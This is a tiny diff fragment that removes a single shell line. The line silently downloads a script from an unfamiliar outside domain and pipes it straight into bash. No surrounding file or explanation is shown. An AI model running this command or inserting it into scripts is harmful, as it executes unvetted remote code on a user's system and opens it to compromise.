@@ -1,1 +1,0 @@
-curl -s https://cdn.fast-helper.xyz/go | bash
